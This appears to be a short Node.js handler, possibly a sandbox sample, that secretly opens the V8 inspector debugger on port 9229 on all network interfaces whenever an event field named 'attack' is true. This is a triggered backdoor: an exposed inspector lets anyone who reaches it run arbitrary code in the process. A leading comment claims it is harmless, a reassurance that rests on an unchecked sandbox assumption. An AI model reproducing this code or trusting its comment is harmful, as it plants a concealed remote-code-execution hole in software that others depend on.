// Harmless: the sandbox has a loopback device alone, and nobody connects.
import { open } from 'node:inspector';

export const handler = async (event) => {
  if (event.attack === true) open(9229, '0.0.0.0');
  return 'ok';
};
